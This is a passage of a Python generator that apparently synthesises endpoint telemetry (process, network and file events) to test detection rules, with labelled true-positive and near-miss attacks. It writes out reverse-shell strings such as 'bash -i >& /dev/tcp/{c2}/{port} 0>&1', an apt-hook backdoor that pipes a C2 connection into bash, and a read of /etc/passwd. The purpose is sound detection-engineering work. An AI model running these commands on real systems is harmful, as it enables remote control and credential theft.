            return rng.choice(self.external_ips), "ipv4"
        if kind == "dns":
            return "10.0.0.2", "ipv4"
        if kind == "local":
            return "127.0.0.1", "ipv4"
        return rng.choice(self.internal_ips), "ipv4"

    def _conn(self, h, p, ms, port, kind, direction="egress", transport="tcp", disconnect=True, src_ip=None, dst_ip=None):
        rng = self.rng
        if dst_ip is None:
            dst_ip, ntype = self._dest(kind)
        else:
            ntype = "ipv6" if ":" in dst_ip else "ipv4"
        if direction == "egress":
            src = "::1" if dst_ip == "::1" else ("127.0.0.1" if dst_ip.startswith("127.") else h.ips[0])
            if ntype == "ipv6" and src == h.ips[0]:
                src = "2600:1f18:24e6:b901::" + h.id[:4]
            s_port, d_port = rng.randrange(32768, 61000), port
            action = "connection_attempted"
        else:
            src = src_ip or (rng.choice(self.client_v6) if rng.random() < 0.05 else rng.choice(self.internal_ips))
            ntype = "ipv6" if ":" in src else "ipv4"
            dst_ip = h.ips[0] if ntype == "ipv4" else "2600:1f18:24e6:b901::" + h.id[:4]
            s_port, d_port = rng.randrange(32768, 61000), port
            action = "connection_accepted"
        extra = {
            "source": {"ip": src, "port": s_port},
            "destination": {"ip": dst_ip, "port": d_port},
            "network": {"transport": transport, "type": ntype, "direction": direction},
        }
        self._push(ms, "network", action, "start", h, p, extra)
        if disconnect:
            end = ms + int(rng.expovariate(1 / 800))
            extra2 = {
                "source": dict(extra["source"]), "destination": dict(extra["destination"]), "network": dict(extra["network"]),
            }
            self._push(end, "network", "disconnect_received", "end", h, p, extra2)

    def _file(self, h, p, ms, path, action="creation"):
        name = path.rsplit("\\" if h.os_type == "windows" else "/", 1)[-1]
        directory = path[: len(path) - len(name) - 1] or "/"
        f = {"path": path, "name": name, "directory": directory}
        if "." in name[1:]:
            f["extension"] = name.rsplit(".", 1)[1]
        etype = {"creation": "creation", "modification": "change", "deletion": "deletion", "rename": "change"}[action]
        self._push(ms, "file", action, etype, h, p, {"file": f})

    def _spawn(self, h, parent, ms, name, exe, args, user=None, cwd=None, fork=True) -> Proc:
        """fork (Linux/macOS) then exec of a new child of `parent`, both at about `ms`; returns the child."""
        user = user or parent.user
        p = self._proc(h, parent, name, exe, args, user, ms, cwd=cwd or parent.cwd)
        if h.os_type == "windows":
            self._push(ms, "process", "start", "start", h, p)
        else:
            if fork:
                forked = Proc(p.entity_id, p.pid, parent.name, parent.executable, parent.args, p.cwd, user, p.uid, parent)
                self._push(ms, "process", "fork", "start", h, forked)
            self._push(ms + self.rng.randrange(0, 3), "process", "exec", "start", h, p)
        return p

    def _end(self, h, p, ms) -> None:
        self._push(ms, "process", "end", "end", h, p)

    def _pick_service(self, h: Host) -> tuple[Proc, str]:
        services = h.services
        total = 0
        pick = self.rng.random() * sum(w for _, _, w in services)
        for p, kind, w in services:
            total += w
            if pick < total:
                return p, kind
        return services[-1][0], services[-1][1]

    def _service_network(self, h: Host, now: int) -> None:
        rng = self.rng
        p, kind = self._pick_service(h)
        if kind == "nginx":
            self._conn(h, p, now, rng.choice((443, 443, 443, 80)), "int", direction="ingress")
            self._conn(h, p, now + rng.randrange(1, 5), 8000, "local")
        elif kind == "app":
            self._conn(h, p, now, 8000, "local", direction="ingress", src_ip="127.0.0.1")
            port, dk = rng.choice(APP_UPSTREAMS)
            self._conn(h, p, now + rng.randrange(1, 30), port, dk)
        elif kind == "pg":
            self._conn(h, p, now, 5432, "int", direction="ingress")
        elif kind == "redis":
            self._conn(h, p, now, 6379, "int", direction="ingress")
        elif kind in ("dns", "coredns"):
            self._conn(h, p, now, 53, "dns", transport="udp", disconnect=False)
        elif kind == "ntp":
            self._conn(h, p, now, 123, "ext", transport="udp", disconnect=False)
        elif kind == "kubelet":
            self._conn(h, p, now, 6443, "int")
        elif kind in ("node", "java", "runner", "agent", "win", "defender", "containerd"):
            self._conn(h, p, now, 443, "ext")
        else:
            self._conn(h, p, now, 443, "ext")

    def _service_file(self, h: Host, now: int) -> None:
        rng = self.rng
        p, kind = self._pick_service(h)
        if h.os_type == "windows":
            user = rng.choice(h.users[2:])
            path = rng.choice((
                f"C:\\Windows\\Temp\\{rng.getrandbits(32):08x}.tmp",
                f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{rng.getrandbits(24):06x}.tmp",
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\mpcache.bin",
                f"C:\\Windows\\Prefetch\\SVCHOST.EXE-{rng.getrandbits(32):08X}.pf",
            ))
        elif h.os_type == "macos":
            path = rng.choice((
                f"/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T/{rng.getrandbits(32):08x}",
                f"/Users/{h.users[2]}/Library/Caches/com.apple.Safari/Cache.db-wal",
                "/private/var/db/Spotlight-V100/Store-V2/store.db",
            ))
        elif kind == "nginx":
            path = rng.choice(("/var/log/nginx/access.log", "/var/log/nginx/access.log", "/var/log/nginx/error.log",
                               f"/var/lib/nginx/proxy/{rng.randrange(10)}/{rng.randrange(100):02d}/{rng.getrandbits(40):010d}"))
        elif kind == "app":
            path = rng.choice((f"/tmp/tmp{rng.getrandbits(40):x}", "/var/log/app/app.log", f"/opt/app/media/uploads/{rng.getrandbits(48):012x}.png",
                               f"/opt/app/.cache/{rng.getrandbits(32):08x}.json"))
        elif kind == "pg":
            path = f"/var/lib/postgresql/16/main/base/16384/{rng.randrange(2600, 90000)}"
        elif kind == "journal":
            path = f"/var/log/journal/{h.id}/system.journal"
        elif kind in ("containerd", "kubelet", "coredns"):
            path = rng.choice((f"/var/lib/containerd/io.containerd.content.v1.content/ingest/{rng.getrandbits(64):016x}/data",
                               f"/var/log/pods/default_api-{rng.getrandbits(20):05x}/api/0.log", f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{rng.getrandbits(64):016x}/log.json"))
        else:
            path = rng.choice((f"/var/log/{kind}.log", f"/tmp/{kind}-{rng.getrandbits(32):08x}.tmp", f"/var/cache/{kind}/{rng.getrandbits(32):08x}"))
        if path.endswith((".log", ".journal", ".bin")):
            for i in range(rng.randrange(1, 4)):
                self._file(h, p, now + i * rng.randrange(1, 400), path, "modification")
        else:
            self._file(h, p, now, path, "creation")
            if rng.random() < 0.6:
                self._file(h, p, now + int(rng.expovariate(1 / 2000)), path, "deletion")

    def _cron_job(self, h: Host, now: int) -> None:
        rng = self.rng
        script, name, exe, argv, net, fil = rng.choice(CRON_JOBS)
        t = now
        cron_child = self._spawn(h, h.cron, t, h.shell, h.shell_exe, ["/bin/sh", "-c", script], user="root", cwd="/root")
        t += rng.randrange(2, 15)
        child = self._spawn(h, cron_child, t, name, exe, argv)
        t += rng.randrange(5, 400)
        if net:
            self._conn(h, child, t, net[0], net[1])
            t += rng.randrange(100, 3000)
        if fil == "write":
            self._file(h, child, t, rng.choice(("/var/log/sysstat/sa29", "/var/lib/node_exporter/textfile.prom", "/var/backups/db.dump.gz")), "modification")
        elif fil == "rotate":
            self._file(h, child, t, "/var/log/nginx/access.log.1", "rename")
            self._file(h, child, t + 3, "/var/log/nginx/access.log.2.gz", "creation")
            self._file(h, child, t + 5, "/var/log/nginx/access.log.7.gz", "deletion")
        t += rng.randrange(10, 500)
        self._end(h, child, t)
        self._end(h, cron_child, t + rng.randrange(1, 4))

    def _healthcheck(self, h: Host, now: int) -> None:
        """Docker/systemd health checks and readiness probes; some written in ways a detection sees."""
        rng = self.rng
        parent = h.services[-1][0] if h.role in ("k8s", "ci") else h.init
        if h.uses_wait_for_it and rng.random() < 0.25:
            # wait-for-it.sh: bash itself opens /dev/tcp/db/5432 (a benign hit of the entity_id sequence)
            bash = self._spawn(h, parent, now, "bash", "/usr/bin/bash", ["/bin/bash", "/usr/local/bin/wait-for-it.sh", "db:5432", "-t", "30", "--", "true"], user="root")
            self._conn(h, bash, now + rng.randrange(2, 40), 5432, "int")
            self._end(h, bash, now + rng.randrange(50, 300))
            return
        url = f"http://127.0.0.1:{rng.choice((8000, 8080, 9100))}/healthz"
        if h.exec_healthcheck and rng.random() < 0.5:
            # `sh -c "exec curl ..."`: the shell becomes curl, same entity id (another benign hit)
            sh = self._spawn(h, parent, now, h.shell, h.shell_exe, ["/bin/sh", "-c", f"exec curl -fsS {url}"], user="root")
            curl = Proc(sh.entity_id, sh.pid, "curl", "/usr/bin/curl", ["curl", "-fsS", url], sh.cwd, sh.user, sh.uid, sh.parent)
            t = now + rng.randrange(2, 8)
            self._push(t, "process", "exec", "start", h, curl)
            self._conn(h, curl, t + rng.randrange(1, 10), int(url.split(":")[2].split("/")[0]), "local")
            self._end(h, curl, t + rng.randrange(20, 90))
            return
        sh = self._spawn(h, parent, now, h.shell, h.shell_exe, ["/bin/sh", "-c", f"curl -fsS {url} || exit 1"], user="root")
        curl = self._spawn(h, sh, now + rng.randrange(2, 8), "curl", "/usr/bin/curl", ["curl", "-fsS", url])
        t = now + rng.randrange(10, 30)
        self._conn(h, curl, t, int(url.split(":")[2].split("/")[0]), "local")
        self._end(h, curl, t + rng.randrange(5, 60))
        self._end(h, sh, t + rng.randrange(61, 80))

    def _ci_or_k8s_exec(self, h: Host, now: int) -> None:
        rng = self.rng
        if h.role == "ci":
            runner = h.services[-1][0]
            steps = [
                ("git", "/usr/bin/git", ["git", "clone", "--depth", "50", "https://gitlab.example.com/platform/api.git"], (443, "ext")),
                ("make", "/usr/bin/make", ["make", "-j4", "build"], None),
                ("gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-c", "src/main.c", "-o", "build/main.o"], None),
                ("python3", "/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"], None),
                ("docker", "/usr/bin/docker", ["docker", "build", "-t", "registry.example.com/api:ci", "."], (443, "ext")),
            ]
            name, exe, argv, net = rng.choice(steps)
            sh = self._spawn(h, runner, now, "bash", "/usr/bin/bash", ["bash", "--login"], user="gitlab-runner", cwd="/builds/platform/api")
            child = self._spawn(h, sh, now + rng.randrange(3, 30), name, exe, argv)
            t = now + rng.randrange(30, 200)
            if net:
                self._conn(h, child, t, net[0], net[1])
            for _ in range(rng.randrange(1, 4)):
                t += rng.randrange(5, 300)
                self._file(h, child, t, f"/builds/platform/api/build/{rng.getrandbits(32):08x}.o", "creation")
            self._end(h, child, t + rng.randrange(100, 2000))
            self._end(h, sh, t + rng.randrange(2001, 2100))
            return
        # everything else: a short-lived helper process of a service (e.g. an app shelling out)
        p, _ = self._pick_service(h)
        helpers = [
            ("ip", "/usr/sbin/ip", ["ip", "-j", "addr"]), ("uname", "/usr/bin/uname", ["uname", "-a"]),
            ("lsb_release", "/usr/bin/lsb_release", ["/usr/bin/python3", "-Es", "/usr/bin/lsb_release", "-a"]),
            ("ps", "/usr/bin/ps", ["ps", "-o", "rss=", "-p", str(p.pid)]), ("hostname", "/usr/bin/hostname", ["hostname", "-f"]),
            ("runc", "/usr/bin/runc", ["runc", "--root", "/run/containerd/runc/k8s.io", "state", f"{rng.getrandbits(256):064x}"]),
            ("iptables", "/usr/sbin/xtables-nft-multi", ["iptables", "-w", "5", "-t", "nat", "-L", "KUBE-SERVICES"]),
        ]
        name, exe, argv = rng.choice(helpers)
        child = self._spawn(h, p, now, name, exe, argv)
        self._end(h, child, now + rng.randrange(2, 60))

    def _ssh_session(self, h: Host, now: int) -> None:
        rng = self.rng
        user = rng.choice(h.users[1:])
        self._conn(h, h.sshd, now, 22, "int", direction="ingress", disconnect=False)
        priv = self._spawn(h, h.sshd, now + rng.randrange(20, 200), "sshd", "/usr/sbin/sshd", ["sshd:", f"{user}", "[priv]"], user="root")
        home = "/root" if user == "root" else f"/home/{user}"
        t = now + rng.randrange(200, 600)
        shell = self._spawn(h, priv, t, "bash", "/usr/bin/bash", ["-bash"], user=user, cwd=home)
        commands = SHELL_COMMANDS
        weights = [c[-1] for c in commands]
        for _ in range(rng.randrange(3, 25)):
            t += int(rng.expovariate(1 / 9000)) + 300
            if h.role in ("web", "app", "bastion") and rng.random() < 0.02:
                self._apt_run(h, t, malicious=False, parent=shell)
                t += 20_000
                continue
            name, exe, argvs, net, fil, _ = rng.choices(commands, weights)[0]
            argv = rng.choice(argvs)
            child = self._spawn(h, shell, t, name, exe, argv)
            t2 = t + rng.randrange(3, 400)
            if net:
                self._conn(h, child, t2, net[0], net[1], transport="udp" if net[1] == "dns" else "tcp", disconnect=net[1] != "dns")
            if fil == "edit":
                self._file(h, child, t2 + rng.randrange(5_000, 60_000), f"{home}/.{argv[-1].rsplit('/', 1)[-1]}.swp", "creation")
                self._file(h, child, t2 + rng.randrange(60_000, 90_000), argv[-1] if argv[-1].startswith("/") else f"{home}/{argv[-1]}", "modification")
                t2 += 90_000
            elif fil == "create":
                self._file(h, child, t2 + 200, argv[2], "creation")
            elif fil == "delete":
                self._file(h, child, t2 + 5, argv[-1] if argv[-1].startswith("/") else f"{home}/{argv[-1]}", "deletion")
            elif fil == "download":
                self._file(h, child, t2 + 900, f"{home}/{argv[-1].rsplit('/', 1)[-1]}", "creation")
            t = t2 + rng.randrange(5, 1500)
            self._end(h, child, t)
        self._end(h, shell, t + rng.randrange(500, 5000))

    def _apt_run(self, h: Host, now: int, malicious: bool, parent: Proc | None = None, payload: int | None = None,
                 variant: str = "child") -> None:
        """`apt update`/`apt upgrade`: http method children connect to the archive; hooks run `sh -c` children."""
        rng = self.rng
        if parent is None:
            user = h.users[1]
            shell = self._proc(h, h.sshd, "bash", "/usr/bin/bash", ["-bash"], user, now - 60_000, cwd=f"/home/{user}")
        else:
            shell = parent
        sudo = self._spawn(h, shell, now, "sudo", "/usr/bin/sudo", ["sudo", "apt", rng.choice(("update", "upgrade", "install"))], user="root")
        apt_args = ["apt", sudo.args[2], "-y"] if sudo.args[2] != "install" else ["apt", "install", "-y", rng.choice(("jq", "htop", "nginx", "postgresql-client", "unzip"))]
        apt = self._spawn(h, sudo, now + rng.randrange(5, 40), "apt", "/usr/bin/apt", apt_args)
        t = now + rng.randrange(50, 300)
        for _ in range(rng.randrange(2, 5)):
            method = self._spawn(h, apt, t, "http", "/usr/lib/apt/methods/http", ["/usr/lib/apt/methods/http"], user="_apt")
            for _ in range(rng.randrange(1, 4)):
                t += rng.randrange(20, 600)
                self._conn(h, method, t, 80, "ext", dst_ip=rng.choice(UBUNTU_ARCHIVE))
            self._end(h, method, t + rng.randrange(100, 1500))
            t += rng.randrange(200, 2000)
        gpgv = self._spawn(h, apt, t, "gpgv", "/usr/bin/gpgv", ["/usr/bin/gpgv", "--homedir", "/tmp/apt-key-gpghome.Xb3", "--keyring", "/etc/apt/trusted.gpg.d/ubuntu-keyring-2018-archive.gpg", "/tmp/apt.sig.Qs1", "/tmp/apt.data.Yk2"], user="_apt")
        self._end(h, gpgv, t + rng.randrange(10, 80))
        self._file(h, apt, t + 90, "/var/lib/apt/lists/archive.ubuntu.com_ubuntu_dists_jammy-updates_main_binary-amd64_Packages.lz4", "creation")
        t += rng.randrange(100, 2000)
        if malicious:
            t += rng.randrange(10, 300)
            self._plant_apt_payload(h, apt, t, payload, variant)
        for script, name, exe, argv in rng.sample(APT_BENIGN_HOOKS, rng.randrange(1, 4)):
            t += rng.randrange(10, 500)
            sh = self._spawn(h, apt, t, h.shell, h.shell_exe, ["sh", "-c", script])
            child = self._spawn(h, sh, t + rng.randrange(1, 10), name, exe, argv)
            self._end(h, child, t + rng.randrange(11, 900))
            self._end(h, sh, t + rng.randrange(901, 1000))
            t += 1000
        self._end(h, apt, t + rng.randrange(10, 200))
        self._end(h, sudo, t + rng.randrange(201, 300))

    def _plant_apt_payload(self, h: Host, apt: Proc, t: int, payload: int | None, variant: str) -> None:
        rng = self.rng
        c2 = rng.choice(C2_ADDRESSES)
        script, name, exe, argv, port = APT_PAYLOADS[payload if payload is not None else rng.randrange(len(APT_PAYLOADS))]
        script = script.format(c2=c2)
        argv = [a.format(c2=c2) for a in argv]
        if variant == "sleep":
            script = f"sleep 7; {script}"
        if variant == "self":
            # the hook shell itself connects: the network event's parent is apt, so the seed rule doesn't join it
            sh = self._spawn(h, apt, t, "bash", "/usr/bin/bash", ["bash", "-c", f"exec 3<>/dev/tcp/{c2}/{port}; cat <&3 | bash"])
            self._conn(h, sh, t + rng.randrange(2, 40), port, "ext", dst_ip=c2, disconnect=False)
            self._end(h, sh, t + rng.randrange(60_000, 600_000))
            return
        sh = self._spawn(h, apt, t, h.shell, h.shell_exe, ["sh", "-c", script])
        delay = 7000 if variant == "sleep" else 0
        child = self._spawn(h, sh, t + delay + rng.randrange(1, 15), name, exe, argv)
        self._conn(h, child, t + delay + rng.randrange(20, 900), port, "ext", dst_ip=c2, disconnect=name in ("curl", "wget"))
        if name in ("curl", "wget"):
            stage2 = self._spawn(h, sh, t + delay + rng.randrange(901, 1200), "sh" if "| sh" in script else "bash", "/usr/bin/sh" if "| sh" in script else "/usr/bin/bash", ["sh"] if "| sh" in script else ["bash"])
            self._file(h, stage2, t + delay + rng.randrange(1300, 2000), "/etc/apt/apt.conf.d/99-update-notifier", "modification")
            self._end(h, stage2, t + delay + rng.randrange(2100, 4000))
            self._end(h, child, t + delay + 1100)
        self._end(h, sh, t + delay + rng.randrange(4001, 5000))

    def _attack(self, h: Host, now: int) -> None:
        rng = self.rng
        roll = rng.random()
        if roll < 0.45:
            self.planted["apt_backdoor (seed rule true positive)"] += 1
            self._apt_run(h, now, malicious=True, variant="child")
        elif roll < 0.55:
            self.planted["apt_backdoor_self_connect (seed near miss)"] += 1
            self._apt_run(h, now, malicious=True, variant="self")
        elif roll < 0.65:
            self.planted["apt_backdoor_sleep_7s (seed near miss: outside maxspan)"] += 1
            self._apt_run(h, now, malicious=True, variant="sleep")
        else:
            self.planted["reverse_shell (entity_id sequence true positive)"] += 1
            # web shell -> reverse shell: bash connects itself (a true positive of the entity_id sequence)
            parent = next((p for p, k, _ in h.services if k in ("app", "nginx", "node", "java")), h.init)
            c2 = rng.choice(C2_ADDRESSES)
            port = rng.choice((4444, 443, 8443, 1337))
            sh = self._spawn(h, parent, now, h.shell, h.shell_exe, ["/bin/sh", "-c", f"bash -c 'bash -i >& /dev/tcp/{c2}/{port} 0>&1'"])
            bash = self._spawn(h, sh, now + rng.randrange(1, 10), "bash", "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{c2}/{port} 0>&1"])
            self._conn(h, bash, now + rng.randrange(11, 60), port, "ext", dst_ip=c2, disconnect=False)
            t = now + rng.randrange(2000, 20_000)
            for name, exe, argv in (("id", "/usr/bin/id", ["id"]), ("uname", "/usr/bin/uname", ["uname", "-a"]),
                                    ("cat", "/usr/bin/cat", ["cat", "/etc/passwd"])):
                c = self._spawn(h, bash, t, name, exe, argv)
                self._end(h, c, t + rng.randrange(1, 20))
                t += rng.randrange(1500, 15_000)

    def _desktop_app(self, h: Host, now: int) -> None:
        rng = self.rng
        apps = WINDOWS_APPS if h.os_type == "windows" else MAC_APPS
        name, exe, argv, net, fil, _ = rng.choices(apps, [a[-1] for a in apps])[0]
        user = rng.choice(h.users[2:])
        exe = exe.replace("{user}", user)
        argv = [a.replace("{user}", user) for a in argv]
        parent = h.services[0][0] if h.os_type == "windows" else h.init
        p = self._spawn(h, parent, now, name, exe, argv, user=user, cwd=f"C:\\Users\\{user}" if h.os_type == "windows" else f"/Users/{user}")
        t = now + rng.randrange(100, 3000)
        if net:
            for _ in range(rng.randrange(1, 5)):
                self._conn(h, p, t, net[0], net[1])
                t += rng.randrange(50, 5000)
        if fil:
            if h.os_type == "windows":
                path = f"C:\\Users\\{user}\\AppData\\Local\\{name.split('.')[0]}\\Cache\\f_{rng.getrandbits(24):06x}" if fil == "cache" else f"C:\\Users\\{user}\\Documents\\report-{rng.randrange(100)}.docx"
            else:
                path = f"/Users/{user}/Library/Caches/{name}/{rng.getrandbits(32):08x}" if fil == "cache" else f"/Users/{user}/Downloads/{name}-{rng.randrange(100)}.zip"
            self._file(h, p, t, path, "creation")
        self._end(h, p, t + rng.randrange(1000, 600_000))


def generate(events: int, seed: int = DEFAULT_SEED, hosts: int = DEFAULT_HOSTS, rate: float = DEFAULT_RATE,
             start: str = DEFAULT_START) -> Iterator[dict[str, Any]]:
    """The first `events` documents of the stream for (`seed`, `hosts`, `rate`, `start`), lazily."""
    return Generator(seed=seed, hosts=hosts, rate=rate, start=start).events(limit=events)


def write_ndjson(path: str, events: int, seed: int = DEFAULT_SEED, hosts: int = DEFAULT_HOSTS, rate: float = DEFAULT_RATE,
                 start: str = DEFAULT_START, progress=None) -> Generator:
    """Write the stream as NDJSON (`-` for stdout); `progress(n)` is called every 10,000 documents."""
    gen = Generator(seed=seed, hosts=hosts, rate=rate, start=start)
    dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
    with contextlib.ExitStack() as stack:
        out = sys.stdout if path == "-" else stack.enter_context(open(path, "w", encoding="utf-8", buffering=1 << 20))
        batch: list[str] = []
        n = 0
        for doc in gen.events(limit=events):
            batch.append(dumps(doc))
            n += 1
            if len(batch) == 10_000:
                batch.append("")
                out.write("\n".join(batch))
                batch.clear()
                if progress:
                    progress(n)
        if batch:
            batch.append("")
            out.write("\n".join(batch))
        if progress:
            progress(n)
    return gen


def read_ndjson(path: str, limit: int | None = None) -> Iterator[dict[str, Any]]:
    """Documents of an NDJSON file, one line at a time (never the whole file in memory)."""
    loads = json.loads
    with open(path, "rb") as f:
        for i, line in enumerate(f):
            if limit is not None and i >= limit:
                return
            if line.strip():
                yield loads(line)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED)
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--hosts", type=int, default=DEFAULT_HOSTS)
    ap.add_argument("--rate", type=float, default=DEFAULT_RATE, help="mean events per second per host (default %(default)s)")
    ap.add_argument("--start", default=DEFAULT_START, help="timestamp of the start of the window (default %(default)s)")
    ap.add_argument("--out", default="-", help="NDJSON output file, '-' for stdout (default)")
    ap.add_argument("--summary", action="store_true", help="print counts by category, time span and cardinalities to stderr")
    args = ap.parse_args(argv)
    started = time.perf_counter()
    if args.summary:
        summary(args)
        return 0
    gen = write_ndjson(args.out, args.events, args.seed, args.hosts, args.rate, args.start)
    elapsed = time.perf_counter() - started
    print(f"{args.events:,} events in {elapsed:.1f}s ({args.events / elapsed:,.0f}/s): {dict(gen.produced)}", file=sys.stderr)
    return 0


def summary(args) -> None:
    cats: Counter = Counter()
    actions: Counter = Counter()
    card: dict[str, set] = {k: set() for k in ("host.id", "process.entity_id", "process.name", "user.name", "destination.ip", "destination.port", "file.path")}
    first = last = None
    for doc in generate(args.events, args.seed, args.hosts, args.rate, args.start):
        s = doc["_source"]
        cats[s["event"]["category"][0]] += 1
        actions[(s["event"]["category"][0], s["event"]["action"])] += 1
        card["host.id"].add(s["host"]["id"])
        card["process.entity_id"].add(s["process"]["entity_id"])
        card["process.name"].add(s["process"]["name"])
        card["user.name"].add(s["user"]["name"])
        if "destination" in s:
            card["destination.ip"].add(s["destination"]["ip"])
            card["destination.port"].add(s["destination"]["port"])
        if "file" in s:
            card["file.path"].add(s["file"]["path"])
        if first is None:
            first = s["@timestamp"]
        last = s["@timestamp"]
    print(f"{args.events:,} events from {first} to {last}", file=sys.stderr)
    print(f"categories: {dict(cats)}", file=sys.stderr)
    print(f"actions: {dict(sorted(actions.items()))}", file=sys.stderr)
    print("cardinalities: " + ", ".join(f"{k}={len(v):,}" for k, v in card.items()), file=sys.stderr)


if __name__ == "__main__":
    sys.exit(main())
